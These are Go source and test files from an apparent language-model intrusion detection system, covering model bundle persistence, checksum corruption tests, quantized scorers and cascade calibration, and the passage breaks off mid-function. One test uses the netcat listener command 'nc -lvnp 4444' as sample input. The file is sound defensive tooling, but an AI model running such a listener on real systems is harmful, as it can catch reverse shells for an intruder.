	bs, err := BuildScorerFull(f.pl, ScorerConfig{Method: "pca", Seed: 7, Precision: model.PrecisionInt8}, f.baseLines, nil)
	if err != nil {
		t.Fatalf("build: %v", err)
	}
	bs.Cascade = &CascadeArtifact{Params: tuning.CascadeParams{}}
	if _, err := SaveBundle(t.TempDir(), f.pl, bs, ""); err == nil {
		t.Fatal("cascade bundle at int8 precision accepted")
	}
}
