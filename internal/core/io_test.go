package core

import (
	"path/filepath"
	"testing"

	"clmids/internal/corpus"
	"clmids/internal/model"
)

func TestSaveDirLoadPipelineRoundTrip(t *testing.T) {
	ccfg := corpus.DefaultConfig()
	ccfg.TrainLines = 300
	ccfg.TestLines = 50
	train, _, err := corpus.Generate(ccfg)
	if err != nil {
		t.Fatal(err)
	}
	pcfg := TinyExperiment().Pipeline
	pcfg.Pretrain.Epochs = 1
	pl, err := BuildPipeline(train.Lines(), pcfg)
	if err != nil {
		t.Fatal(err)
	}

	dir := filepath.Join(t.TempDir(), "model")
	if err := pl.SaveDir(dir); err != nil {
		t.Fatalf("SaveDir: %v", err)
	}
	loaded, err := LoadPipeline(dir)
	if err != nil {
		t.Fatalf("LoadPipeline: %v", err)
	}

	// Same tokenization, same filtering, same hidden states.
	line := "nc -lvnp 4444"
	a := pl.Tok.Encode(line)
	b := loaded.Tok.Encode(line)
	if len(a) != len(b) {
		t.Fatalf("tokenization differs after load")
	}
	for i := range a {
		if a[i] != b[i] {
			t.Fatalf("tokenization differs at %d", i)
		}
	}
	if _, r1 := pl.Pre.Check(line); true {
		if _, r2 := loaded.Pre.Check(line); r1 != r2 {
			t.Fatalf("filter verdict differs after load: %v vs %v", r1, r2)
		}
	}
	h1, err := pl.Model.Encoder.EmbedLines(batchFor(pl, line))
	if err != nil {
		t.Fatal(err)
	}
	h2, err := loaded.Model.Encoder.EmbedLines(batchFor(loaded, line))
	if err != nil {
		t.Fatal(err)
	}
	for i := range h1.Data {
		if h1.Data[i] != h2.Data[i] {
			t.Fatal("embeddings differ after load")
		}
	}
}

func batchFor(p *Pipeline, line string) model.Batch {
	ids := p.Tok.EncodeForModel(line, p.Model.Encoder.Config().MaxSeqLen)
	return model.NewBatch([][]int{ids})
}

func TestLoadPipelineMissingDir(t *testing.T) {
	if _, err := LoadPipeline(filepath.Join(t.TempDir(), "missing")); err == nil {
		t.Fatal("missing directory accepted")
	}
}
