package core

import (
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"clmids/internal/bpe"
	"clmids/internal/commercial"
	"clmids/internal/corpus"
	"clmids/internal/faults"
)

// bundleFixture is one tiny trained pipeline plus a labeled baseline and
// held-out evaluation lines, shared across the bundle tests (building it
// costs seconds; every method round-trip reuses it).
type bundleFixture struct {
	pl        *Pipeline
	baseLines []string
	labels    []bool
	evalLines []string
}

var (
	bundleOnce sync.Once
	bundleFix  *bundleFixture
	bundleErr  error
)

func getBundleFixture(t *testing.T) *bundleFixture {
	t.Helper()
	bundleOnce.Do(func() {
		ccfg := corpus.DefaultConfig()
		ccfg.TrainLines = 300
		ccfg.TestLines = 80
		ccfg.IntrusionRate = 0.2
		train, test, err := corpus.Generate(ccfg)
		if err != nil {
			bundleErr = err
			return
		}
		pcfg := TinyExperiment().Pipeline
		pcfg.Pretrain.Epochs = 1
		pl, err := BuildPipeline(train.Lines(), pcfg)
		if err != nil {
			bundleErr = err
			return
		}
		baseLines := train.Lines()
		labels, err := commercial.Default().Label(baseLines, commercial.DefaultNoise(), 1)
		if err != nil {
			bundleErr = err
			return
		}
		bundleFix = &bundleFixture{
			pl: pl, baseLines: baseLines, labels: labels, evalLines: test.Lines(),
		}
	})
	if bundleErr != nil {
		t.Fatalf("fixture: %v", bundleErr)
	}
	return bundleFix
}

// TestBundleRoundTripGolden pins the acceptance contract of the artifact
// layer: for every method at a fixed seed, a bundle loaded from disk
// scores the evaluation corpus byte-identically to the freshly tuned
// scorer it was saved from — train once, serve many, zero drift.
func TestBundleRoundTripGolden(t *testing.T) {
	f := getBundleFixture(t)
	for _, method := range ScorerMethods() {
		t.Run(method, func(t *testing.T) {
			cfg := ScorerConfig{Method: method, Epochs: 2, Seed: 7}
			bs, err := BuildScorerFull(f.pl, cfg, f.baseLines, f.labels)
			if err != nil {
				t.Fatalf("build: %v", err)
			}
			want, err := bs.Scorer.Score(f.evalLines)
			if err != nil {
				t.Fatalf("fresh score: %v", err)
			}

			dir := t.TempDir()
			man, err := SaveBundle(dir, f.pl, bs, "")
			if err != nil {
				t.Fatalf("save: %v", err)
			}
			if man.Method != method || man.Version == "" || len(man.Checksums) != 4 {
				t.Fatalf("manifest incomplete: %+v", man)
			}
			if man.Provenance.BaselineLines != len(f.baseLines) {
				t.Fatalf("provenance %d baseline lines, want %d",
					man.Provenance.BaselineLines, len(f.baseLines))
			}

			lb, err := LoadScorerBundle(dir)
			if err != nil {
				t.Fatalf("load: %v", err)
			}
			if lb.Manifest.Version != man.Version || lb.Manifest.Method != method {
				t.Fatalf("loaded manifest %+v does not match saved %+v", lb.Manifest, man)
			}
			got, err := lb.Scorer.Score(f.evalLines)
			if err != nil {
				t.Fatalf("loaded score: %v", err)
			}
			if len(got) != len(want) {
				t.Fatalf("%d scores, want %d", len(got), len(want))
			}
			for i := range want {
				if got[i] != want[i] {
					t.Fatalf("%s: line %d scores diverge: fresh %v, loaded %v",
						method, i, want[i], got[i])
				}
			}

			// Loaded scorers replicate like built ones (sharded serving).
			reps, err := ReplicateScorer(lb.Scorer, 3)
			if err != nil {
				t.Fatalf("replicate loaded scorer: %v", err)
			}
			rgot, err := reps[2].Score(f.evalLines[:10])
			if err != nil {
				t.Fatalf("replica score: %v", err)
			}
			for i := range rgot {
				if rgot[i] != want[i] {
					t.Fatalf("replica diverges at line %d: %v vs %v", i, rgot[i], want[i])
				}
			}
		})
	}
}

// TestBundleVersionContentAddressed: the derived version is a function of
// the artifact bytes alone — saving the same built scorer twice yields the
// same version, so fleet operators can compare bundles by version.
func TestBundleVersionContentAddressed(t *testing.T) {
	f := getBundleFixture(t)
	bs, err := BuildScorerFull(f.pl, ScorerConfig{Method: "pca", Seed: 1}, f.baseLines, nil)
	if err != nil {
		t.Fatal(err)
	}
	m1, err := SaveBundle(t.TempDir(), f.pl, bs, "")
	if err != nil {
		t.Fatal(err)
	}
	m2, err := SaveBundle(t.TempDir(), f.pl, bs, "")
	if err != nil {
		t.Fatal(err)
	}
	if m1.Version != m2.Version {
		t.Fatalf("same artifacts, different versions: %s vs %s", m1.Version, m2.Version)
	}
	// An explicit label wins over derivation.
	m3, err := SaveBundle(t.TempDir(), f.pl, bs, "prod-2026-07")
	if err != nil {
		t.Fatal(err)
	}
	if m3.Version != "prod-2026-07" {
		t.Fatalf("explicit version not honored: %s", m3.Version)
	}
}

// TestBundleLoadRejectsCorruption: a flipped byte, a truncated section, a
// missing section, and a wrong format header all fail with descriptive
// errors — never a panic, never a silently different scorer.
func TestBundleLoadRejectsCorruption(t *testing.T) {
	f := getBundleFixture(t)
	bs, err := BuildScorerFull(f.pl, ScorerConfig{Method: "pca", Seed: 1}, f.baseLines, nil)
	if err != nil {
		t.Fatal(err)
	}
	save := func(t *testing.T) string {
		t.Helper()
		dir := t.TempDir()
		if _, err := SaveBundle(dir, f.pl, bs, ""); err != nil {
			t.Fatal(err)
		}
		return dir
	}

	t.Run("bit flip", func(t *testing.T) {
		dir := save(t)
		path := filepath.Join(dir, "scorer.bin")
		data, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		data[len(data)/2] ^= 0x40
		if err := os.WriteFile(path, data, 0o644); err != nil {
			t.Fatal(err)
		}
		if _, err := LoadScorerBundle(dir); err == nil ||
			!strings.Contains(err.Error(), "checksum") {
			t.Fatalf("corrupted section load: %v", err)
		}
	})
	t.Run("truncated", func(t *testing.T) {
		dir := save(t)
		path := filepath.Join(dir, "model.gob")
		data, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, data[:len(data)/3], 0o644); err != nil {
			t.Fatal(err)
		}
		if _, err := LoadScorerBundle(dir); err == nil ||
			!strings.Contains(err.Error(), "checksum") {
			t.Fatalf("truncated section load: %v", err)
		}
	})
	t.Run("missing section", func(t *testing.T) {
		dir := save(t)
		if err := os.Remove(filepath.Join(dir, "tokenizer.txt")); err != nil {
			t.Fatal(err)
		}
		if _, err := LoadScorerBundle(dir); err == nil {
			t.Fatal("missing section load succeeded")
		}
	})
	t.Run("wrong format", func(t *testing.T) {
		dir := save(t)
		path := filepath.Join(dir, "manifest.json")
		mj, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		var m BundleManifest
		if err := json.Unmarshal(mj, &m); err != nil {
			t.Fatal(err)
		}
		m.Format = "clmids-bundle v99"
		out, err := json.Marshal(m)
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, out, 0o644); err != nil {
			t.Fatal(err)
		}
		if _, err := LoadScorerBundle(dir); err == nil ||
			!strings.Contains(err.Error(), "format") {
			t.Fatalf("future-format load: %v", err)
		}
	})
	t.Run("missing dir", func(t *testing.T) {
		if _, err := LoadScorerBundle(filepath.Join(t.TempDir(), "nope")); err == nil {
			t.Fatal("missing bundle dir load succeeded")
		}
	})
}

func TestValidateMethod(t *testing.T) {
	for _, m := range ScorerMethods() {
		if err := ValidateMethod(m); err != nil {
			t.Errorf("valid method %s rejected: %v", m, err)
		}
	}
	err := ValidateMethod("classifer")
	if err == nil || !strings.Contains(err.Error(), "classifier") ||
		!strings.Contains(err.Error(), "pca") {
		t.Fatalf("invalid method error does not list valid ones: %v", err)
	}
}

// TestBundleCorruptTyped: every integrity failure — any section flipped or
// torn, a mangled manifest — is errors.Is(…, ErrBundleCorrupt), so callers
// (clmserve /reload) can distinguish "artifact damaged, keep the old scorer"
// from operational errors. A format-version mismatch is deliberately NOT
// corruption: that is a deployment skew, reported separately.
func TestBundleCorruptTyped(t *testing.T) {
	f := getBundleFixture(t)
	bs, err := BuildScorerFull(f.pl, ScorerConfig{Method: "pca", Seed: 1}, f.baseLines, nil)
	if err != nil {
		t.Fatal(err)
	}
	src := t.TempDir()
	m, err := SaveBundle(src, f.pl, bs, "")
	if err != nil {
		t.Fatal(err)
	}
	secs := SectionFiles(m)
	if len(secs) != 4 {
		t.Fatalf("float64 bundle SectionFiles = %v, want 4 sections", secs)
	}

	for _, sec := range secs {
		for damage, apply := range map[string]func(string, string, string) error{
			"corrupt":  faults.CorruptBundleCopy,
			"truncate": faults.TruncateBundleCopy,
		} {
			dst := filepath.Join(t.TempDir(), damage+"-"+sec)
			if err := apply(src, dst, sec); err != nil {
				t.Fatal(err)
			}
			if _, err := LoadScorerBundle(dst); !errors.Is(err, ErrBundleCorrupt) {
				t.Errorf("%s %s: error %v, want ErrBundleCorrupt", damage, sec, err)
			}
		}
	}

	// Mangled manifest → corrupt.
	dst := filepath.Join(t.TempDir(), "mangled")
	if err := faults.CorruptBundleCopy(src, dst, secs[0]); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dst, ManifestFile), []byte("{not json"), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := LoadScorerBundle(dst); !errors.Is(err, ErrBundleCorrupt) {
		t.Errorf("mangled manifest: error %v, want ErrBundleCorrupt", err)
	}

	// Format skew → a different failure class, not corruption.
	skew := filepath.Join(t.TempDir(), "skew")
	if err := faults.TruncateBundleCopy(src, skew, secs[0]); err != nil {
		t.Fatal(err)
	}
	mj, err := os.ReadFile(filepath.Join(src, ManifestFile))
	if err != nil {
		t.Fatal(err)
	}
	var skewed BundleManifest
	if err := json.Unmarshal(mj, &skewed); err != nil {
		t.Fatal(err)
	}
	skewed.Format = "clmids-bundle v99"
	out, err := json.Marshal(skewed)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(skew, ManifestFile), out, 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := LoadScorerBundle(skew); err == nil || errors.Is(err, ErrBundleCorrupt) {
		t.Errorf("format skew misclassified as corruption: %v", err)
	}

	// The pristine bundle still loads — the damage helpers copy, not mutate.
	if _, err := LoadScorerBundle(src); err != nil {
		t.Errorf("pristine bundle no longer loads: %v", err)
	}
}

// TestBundleEstimatorRoundTrip pins the estimator section: a tokenizer
// carrying a fitted token-length estimator saves it as a fifth section,
// loading restores it onto the loaded tokenizer, scores stay byte-identical
// with or without it (it is advisory), and a corrupted section is rejected
// like any other.
func TestBundleEstimatorRoundTrip(t *testing.T) {
	f := getBundleFixture(t)
	bs, err := BuildScorerFull(f.pl, ScorerConfig{Method: "pca", Seed: 1}, f.baseLines, nil)
	if err != nil {
		t.Fatal(err)
	}
	want, err := bs.Scorer.Score(f.evalLines)
	if err != nil {
		t.Fatal(err)
	}

	est, err := bpe.FitEstimator(f.pl.Tok, f.baseLines)
	if err != nil {
		t.Fatalf("FitEstimator: %v", err)
	}
	f.pl.Tok.SetEstimator(est)
	t.Cleanup(func() { f.pl.Tok.SetEstimator(nil) })

	// A fresh replica (cold caches) now serves through the estimator-bucketed
	// path; the estimate is advisory, so scores must not move.
	reps, err := ReplicateScorer(bs.Scorer, 2)
	if err != nil {
		t.Fatal(err)
	}
	got, err := reps[1].Score(f.evalLines)
	if err != nil {
		t.Fatal(err)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Fatalf("estimator changed score of line %d: %v vs %v", i, got[i], want[i])
		}
	}

	dir := t.TempDir()
	man, err := SaveBundle(dir, f.pl, bs, "")
	if err != nil {
		t.Fatal(err)
	}
	if !man.Estimator || len(man.Checksums) != 5 {
		t.Fatalf("manifest missing estimator section: %+v", man)
	}
	if secs := SectionFiles(man); secs[len(secs)-1] != "estimator.json" {
		t.Fatalf("SectionFiles omits estimator: %v", secs)
	}
	lb, err := LoadScorerBundle(dir)
	if err != nil {
		t.Fatal(err)
	}
	loaded := lb.Tok.Estimator()
	if loaded == nil {
		t.Fatal("loaded tokenizer has no estimator")
	}
	if loaded.Weights != est.Weights || loaded.MAE != est.MAE {
		t.Fatalf("estimator round trip drifted: %+v vs %+v", loaded, est)
	}
	lgot, err := lb.Scorer.Score(f.evalLines)
	if err != nil {
		t.Fatal(err)
	}
	for i := range want {
		if lgot[i] != want[i] {
			t.Fatalf("loaded bundle diverges at line %d: %v vs %v", i, lgot[i], want[i])
		}
	}

	// A damaged estimator section is corruption, same as every other section.
	dst := filepath.Join(t.TempDir(), "bad-est")
	if err := faults.CorruptBundleCopy(dir, dst, "estimator.json"); err != nil {
		t.Fatal(err)
	}
	if _, err := LoadScorerBundle(dst); !errors.Is(err, ErrBundleCorrupt) {
		t.Fatalf("corrupt estimator section: error %v, want ErrBundleCorrupt", err)
	}
}
