package core

import (
	"fmt"
	"io"
	"os"
	"path/filepath"

	"clmids/internal/bpe"
	"clmids/internal/model"
	"clmids/internal/preprocess"
)

// File names inside a saved pipeline directory.
const (
	preprocessFile = "preprocess.json"
	tokenizerFile  = "tokenizer.txt"
	modelFile      = "model.gob"
)

// SaveDir persists the trained pipeline (filter state, tokenizer, model)
// into a directory, creating it if needed.
func (p *Pipeline) SaveDir(dir string) error {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return fmt.Errorf("core: creating %s: %w", dir, err)
	}
	if err := writeFile(filepath.Join(dir, preprocessFile), p.Pre.Save); err != nil {
		return err
	}
	if err := writeFile(filepath.Join(dir, tokenizerFile), p.Tok.Save); err != nil {
		return err
	}
	return writeFile(filepath.Join(dir, modelFile), p.Model.Save)
}

func writeFile(path string, save func(w io.Writer) error) error {
	f, err := os.Create(path)
	if err != nil {
		return fmt.Errorf("core: creating %s: %w", path, err)
	}
	if err := save(f); err != nil {
		f.Close()
		return fmt.Errorf("core: writing %s: %w", path, err)
	}
	if err := f.Close(); err != nil {
		return fmt.Errorf("core: closing %s: %w", path, err)
	}
	return nil
}

// LoadPipeline restores a pipeline saved with SaveDir. The pre-training
// history is not persisted.
func LoadPipeline(dir string) (*Pipeline, error) {
	pf, err := os.Open(filepath.Join(dir, preprocessFile))
	if err != nil {
		return nil, fmt.Errorf("core: opening filter state: %w", err)
	}
	defer pf.Close()
	pre, err := preprocess.Load(pf)
	if err != nil {
		return nil, err
	}

	tf, err := os.Open(filepath.Join(dir, tokenizerFile))
	if err != nil {
		return nil, fmt.Errorf("core: opening tokenizer: %w", err)
	}
	defer tf.Close()
	tok, err := bpe.Load(tf)
	if err != nil {
		return nil, err
	}

	mf, err := os.Open(filepath.Join(dir, modelFile))
	if err != nil {
		return nil, fmt.Errorf("core: opening model: %w", err)
	}
	defer mf.Close()
	mdl, err := model.Load(mf)
	if err != nil {
		return nil, err
	}
	return &Pipeline{Pre: pre, Tok: tok, Model: mdl}, nil
}
