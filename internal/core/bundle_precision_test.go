package core

import (
	"math"
	"os"
	"path/filepath"
	"testing"

	"clmids/internal/model"
	"clmids/internal/stream"
	"clmids/internal/tuning"
)

// TestQuantizedBundleRoundTrip pins the quantized-bundle contract: a
// low-precision bundle saves the quant section, records the rung in the
// manifest, cold-loads into a scorer serving at that rung, and two
// independent cold loads score byte-identically. Scores stay within the
// ladder tolerance of the float64 build, and the sibling float64 bundle of
// the same training run carries an identical head (same seed → the only
// differing sections are model-precision ones).
func TestQuantizedBundleRoundTrip(t *testing.T) {
	f := getBundleFixture(t)
	for _, prec := range []model.Precision{model.PrecisionFloat32, model.PrecisionInt8} {
		t.Run(string(prec), func(t *testing.T) {
			cfg := ScorerConfig{Method: tuning.MethodPCA, Seed: 7, Precision: prec}
			bs, err := BuildScorerFull(f.pl, cfg, f.baseLines, f.labels)
			if err != nil {
				t.Fatalf("build: %v", err)
			}
			if p, _ := tuning.ScorerPrecision(bs.Scorer); p != prec {
				t.Fatalf("built scorer serves at %q, want %q", p, prec)
			}
			want, err := bs.Scorer.Score(f.evalLines)
			if err != nil {
				t.Fatal(err)
			}

			dir := t.TempDir()
			man, err := SaveBundle(dir, f.pl, bs, "")
			if err != nil {
				t.Fatalf("save: %v", err)
			}
			if man.Precision != string(prec) {
				t.Fatalf("manifest precision %q, want %q", man.Precision, prec)
			}
			if _, ok := man.Checksums["quant.gob"]; !ok {
				t.Fatal("manifest lists no quantized section")
			}

			lb, err := LoadScorerBundle(dir)
			if err != nil {
				t.Fatalf("load: %v", err)
			}
			if p, _ := tuning.ScorerPrecision(lb.Scorer); p != prec {
				t.Fatalf("loaded scorer serves at %q, want %q", p, prec)
			}
			got, err := lb.Scorer.Score(f.evalLines)
			if err != nil {
				t.Fatal(err)
			}
			for i := range want {
				if got[i] != want[i] {
					t.Fatalf("line %d: cold-load %g, built %g (same rung must match bitwise)",
						i, got[i], want[i])
				}
			}

			// A second independent cold start reproduces the same bytes.
			lb2, err := LoadScorerBundle(dir)
			if err != nil {
				t.Fatal(err)
			}
			got2, err := lb2.Scorer.Score(f.evalLines)
			if err != nil {
				t.Fatal(err)
			}
			for i := range got {
				if got[i] != got2[i] {
					t.Fatalf("line %d: two cold loads diverge", i)
				}
			}

			// Tampering with the quant section must fail checksum
			// verification, not deserialize garbage.
			qpath := filepath.Join(dir, "quant.gob")
			raw, err := os.ReadFile(qpath)
			if err != nil {
				t.Fatal(err)
			}
			raw[len(raw)/2] ^= 0x40
			if err := os.WriteFile(qpath, raw, 0o644); err != nil {
				t.Fatal(err)
			}
			if _, err := LoadScorerBundle(dir); err == nil {
				t.Fatal("tampered quant section loaded")
			}
		})
	}
}

// TestQuantizedBundleSharesHead: the float64 and int8 bundles of one
// training run differ only in manifest and quant section — the trained
// head and backbone bytes are identical, so verdict differences come from
// arithmetic alone.
func TestQuantizedBundleSharesHead(t *testing.T) {
	f := getBundleFixture(t)
	build := func(prec model.Precision) *BundleManifest {
		bs, err := BuildScorerFull(f.pl,
			ScorerConfig{Method: tuning.MethodPCA, Seed: 7, Precision: prec},
			f.baseLines, f.labels)
		if err != nil {
			t.Fatal(err)
		}
		man, err := SaveBundle(t.TempDir(), f.pl, bs, "")
		if err != nil {
			t.Fatal(err)
		}
		return man
	}
	f64m := build(model.PrecisionFloat64)
	i8m := build(model.PrecisionInt8)
	for _, section := range []string{"scorer.bin", "model.gob", "preprocess.json", "tokenizer.txt"} {
		a, okA := f64m.Checksums[section]
		b, okB := i8m.Checksums[section]
		if !okA || !okB {
			// Section naming is part of the bundle contract; surface a
			// rename loudly.
			t.Fatalf("section %s missing from a manifest (%v/%v)", section, okA, okB)
		}
		if a != b {
			t.Errorf("section %s differs between float64 and int8 bundles", section)
		}
	}
	if f64m.Version == i8m.Version {
		t.Error("content-derived versions collide despite differing precision")
	}
}

// TestHotSwapFloat64ToInt8UnderLoad hot-swaps a float64 scorer for the
// int8 build of the same head on a live sharded detector and checks the
// stream keeps flowing with scores within the ladder tolerance.
func TestHotSwapFloat64ToInt8UnderLoad(t *testing.T) {
	f := getBundleFixture(t)
	bsF64, err := BuildScorerFull(f.pl,
		ScorerConfig{Method: tuning.MethodPCA, Seed: 7}, f.baseLines, f.labels)
	if err != nil {
		t.Fatal(err)
	}
	f64Dir, i8Dir := t.TempDir(), t.TempDir()
	if _, err := SaveBundle(f64Dir, f.pl, bsF64, ""); err != nil {
		t.Fatal(err)
	}
	bsF64.Config.Precision = model.PrecisionInt8
	if _, err := SaveBundle(i8Dir, f.pl, bsF64, ""); err != nil {
		t.Fatal(err)
	}

	lbF64, err := LoadScorerBundle(f64Dir)
	if err != nil {
		t.Fatal(err)
	}
	replicas, err := ReplicateScorer(lbF64.Scorer, 2)
	if err != nil {
		t.Fatal(err)
	}
	det, err := stream.NewShardedDetector(replicas, stream.DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	det.SetScorerVersion(lbF64.Manifest.Version)

	events := make([]stream.Event, len(f.evalLines))
	for i, line := range f.evalLines {
		events[i] = stream.Event{User: "u" + string(rune('a'+i%5)), Time: int64(1000 + i), Line: line}
	}
	pre, err := det.Process(events)
	if err != nil {
		t.Fatal(err)
	}

	lbI8, err := LoadScorerBundle(i8Dir)
	if err != nil {
		t.Fatal(err)
	}
	if err := det.SwapScorer(lbI8.Scorer, lbI8.Manifest.Version); err != nil {
		t.Fatal(err)
	}
	if det.ScorerVersion() != lbI8.Manifest.Version {
		t.Fatalf("version %q after swap", det.ScorerVersion())
	}
	post, err := det.Process(events)
	if err != nil {
		t.Fatal(err)
	}
	if len(post) != len(pre) {
		t.Fatalf("%d verdicts after swap, %d before", len(post), len(pre))
	}
	// Same lines, new sessions state aside: per-line scores of the int8
	// scorer must sit within the ladder tolerance of the f64 ones (the
	// default config scores each line as its own context join, so the
	// line-score field is directly comparable across the two passes).
	for i := range post {
		if post[i].Line != pre[i].Line {
			t.Fatalf("verdict %d reordered across swap", i)
		}
		if !almostEqual(pre[i].LineScore, post[i].LineScore, 0.25) {
			t.Errorf("line %d: int8 score %g vs f64 %g beyond ladder tolerance",
				i, post[i].LineScore, pre[i].LineScore)
		}
	}
}

// TestBuildScorerRejectsUnknownPrecision: typos fail before tuning.
func TestBuildScorerRejectsUnknownPrecision(t *testing.T) {
	f := getBundleFixture(t)
	_, err := BuildScorerFull(f.pl,
		ScorerConfig{Method: tuning.MethodPCA, Seed: 7, Precision: "fp16"},
		f.baseLines, f.labels)
	if err == nil {
		t.Fatal("unknown precision accepted")
	}
}

// almostEqual helps future precision assertions stay tolerant but bounded.
func almostEqual(a, b, tol float64) bool {
	return math.Abs(a-b) <= tol*(1+math.Abs(a))
}
