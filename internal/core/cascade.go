package core

// Build-time calibration of the scoring cascade. The cascade's thresholds
// are not tunables an operator guesses at: they are derived from the f64
// scorer's own score distribution on the fitting corpus, so the composed
// cascade provably stays inside the precision ladder's parity bounds.
//
//   - ClearThreshold: walk calibration lines in ascending rarity order and
//     extend the cleared prefix as long as the lines inside it that score in
//     the escalation band stay within the deny budget. Those violators — a
//     handful of common-unit lines the scorer rates suspicious, typically
//     label-noise artifacts and living-off-the-land patterns — go onto the
//     rarity table's exact-line denylist, so at serve time they carry +Inf
//     rarity and always reach the model rungs. The threshold is the largest
//     rarity value whose entire non-denied population could never have
//     escalated.
//   - ClearScore: the midrange of the cleared lines' f64 scores, which
//     minimizes the worst-case substitution error; that error is measured
//     and recorded as MaxClearDeviation.
//   - EscalateLow: the EscalateQuantile of the f64 score distribution,
//     nudged down by a small margin relative to the score spread so a
//     triage (int8) score sitting just under the band edge still escalates.
//
// Everything at or above EscalateLow re-scores on the exact f64 rung, so
// alarm-relevant scores are byte-identical to f64-only; everything below it
// deviates by at most max(MaxClearDeviation, int8 parity bound) — far under
// the session-threshold gap the corpus-parity harness pins.

import (
	"fmt"
	"math"
	"sort"

	"clmids/internal/model"
	"clmids/internal/tuning"
)

// CascadeConfig parameterizes cascade calibration.
type CascadeConfig struct {
	// ClearQuantile bounds the benign mass the rung-0 rarity table is
	// fitted on: only calibration lines scoring within this quantile of the
	// f64 score distribution contribute unit counts, so units that appear
	// only in suspicious traffic stay maximally rare.
	ClearQuantile float64
	// EscalateQuantile positions the escalation band: calibration scores at
	// or above this quantile re-score on the f64 rung, and no line at or
	// above it may ever clear on rung 0.
	EscalateQuantile float64
	// DenyFraction is the deny budget: the clear walk may push the
	// threshold past band-scoring common-unit lines as long as they stay
	// under this fraction of the cleared prefix; each one is pinned on the
	// exact-line denylist instead of capping the threshold. Zero disables
	// the denylist and the walk halts at the first violator.
	DenyFraction float64
}

// DefaultCascadeConfig returns the calibration defaults: fit rarity on the
// bottom 85% of the score distribution, escalate the top 5%, and allow
// up to 2% of the cleared prefix onto the denylist.
func DefaultCascadeConfig() CascadeConfig {
	return CascadeConfig{ClearQuantile: 0.85, EscalateQuantile: 0.95, DenyFraction: 0.02}
}

func (c CascadeConfig) validate() error {
	if c.ClearQuantile <= 0 || c.ClearQuantile >= 1 || c.EscalateQuantile <= 0 || c.EscalateQuantile >= 1 {
		return fmt.Errorf("core: cascade quantiles must be in (0,1); got clear=%v escalate=%v",
			c.ClearQuantile, c.EscalateQuantile)
	}
	if c.ClearQuantile >= c.EscalateQuantile {
		return fmt.Errorf("core: cascade clear quantile %v must sit below escalate quantile %v",
			c.ClearQuantile, c.EscalateQuantile)
	}
	if c.DenyFraction < 0 || c.DenyFraction > 0.2 {
		return fmt.Errorf("core: cascade deny fraction %v must be in [0, 0.2]", c.DenyFraction)
	}
	return nil
}

// CascadeArtifact is everything a serving process needs to assemble the
// cascade on top of a confirm scorer: the fitted rarity table (rung 0) and
// the calibrated thresholds. It rides the bundle format as the rarity.bin
// section plus a manifest block.
type CascadeArtifact struct {
	// Params are the calibrated thresholds.
	Params tuning.CascadeParams
	// Rarity is the fitted rung-0 table.
	Rarity *tuning.RarityTable
}

// CalibrateCascade calibrates the cascade thresholds against confirm's f64
// scores of lines (the same corpus the preprocessing filter counted
// frequencies on) and fits the rung-0 rarity table over the benign-scoring
// subset of it. Fitting on the benign mass only — not the whole corpus — is
// what makes the pre-filter effective: a calibration log contains the known
// attack families too, and counting their repeated units would make
// intrusion lines look "common", poisoning the low-rarity prefix the clear
// walk extends over. Left out of the fit, attack-only units stay unseen and
// their lines sort to the maximal-rarity tail, past any clear threshold.
func CalibrateCascade(confirm tuning.Scorer, modalityName string, lines []string, cfg CascadeConfig) (*CascadeArtifact, error) {
	if err := cfg.validate(); err != nil {
		return nil, err
	}
	scores, err := confirm.Score(lines)
	if err != nil {
		return nil, fmt.Errorf("core: scoring cascade calibration corpus: %w", err)
	}
	benignCut := quantile(scores, cfg.ClearQuantile)
	benign := make([]string, 0, len(lines))
	for i, line := range lines {
		if scores[i] <= benignCut {
			benign = append(benign, line)
		}
	}
	rt, err := tuning.FitRarity(modalityName, benign)
	if err != nil {
		return nil, fmt.Errorf("core: fitting rarity on the benign-scoring mass: %w", err)
	}
	rar := make([]float64, len(lines))
	for i, line := range lines {
		rar[i] = rt.Rarity(line)
	}

	escalateLow := quantile(scores, cfg.EscalateQuantile)
	// Widen the band by a spread-relative margin: a line whose f64 score is
	// exactly at the band edge must still escalate when the int8 triage
	// rung's rounding lands it epsilon below.
	smin, smax := scores[0], scores[0]
	for _, s := range scores {
		smin, smax = math.Min(smin, s), math.Max(smax, s)
	}
	escalateLow -= 1e-3*(smax-smin) + 1e-12

	// The walk's hard constraint is the escalation floor: a cleared line
	// must be one that could never have reached the f64 confirm rung, or
	// rung 0 would be silencing exactly the traffic the band exists for.
	// Band-scoring lines inside the deny budget are pinned on the denylist
	// rather than capping the threshold.
	params, deny := clearPrefix(lines, rar, scores, escalateLow, cfg.DenyFraction, rt.MaxRarity())
	rt.SetDenylist(deny)
	params.EscalateLow = escalateLow
	if err := params.Validate(); err != nil {
		return nil, err
	}
	return &CascadeArtifact{Params: params, Rarity: rt}, nil
}

// clearPrefix finds the largest rarity threshold (strictly below the
// unseen-unit level maxRarity) such that the calibration lines at or below
// it scoring at or above the cut stay within denyFrac of the prefix; those
// violators are returned for the denylist, and the clear score is the
// midrange of the remaining (cleared) population. Duplicate lines count
// once on the denylist but every occurrence counts toward the budget.
func clearPrefix(lines []string, rar, scores []float64, cut, denyFrac, maxRarity float64) (tuning.CascadeParams, []string) {
	idx := make([]int, len(rar))
	for i := range idx {
		idx[i] = i
	}
	sort.Slice(idx, func(a, b int) bool { return rar[idx[a]] < rar[idx[b]] })

	p := tuning.CascadeParams{ClearThreshold: math.Inf(-1)}
	var deny []string
	denySet := make(map[string]struct{})
	lo, hi := math.Inf(1), math.Inf(-1)
	bestDeny, bestLo, bestHi := 0, lo, hi
	violations := 0
	for at := 0; at < len(idx); {
		// One group of equal-rarity lines clears atomically or not at all.
		v := rar[idx[at]]
		if v >= maxRarity { // unseen units (and +Inf) never clear
			break
		}
		end := at
		for end < len(idx) && rar[idx[end]] == v {
			i := idx[end]
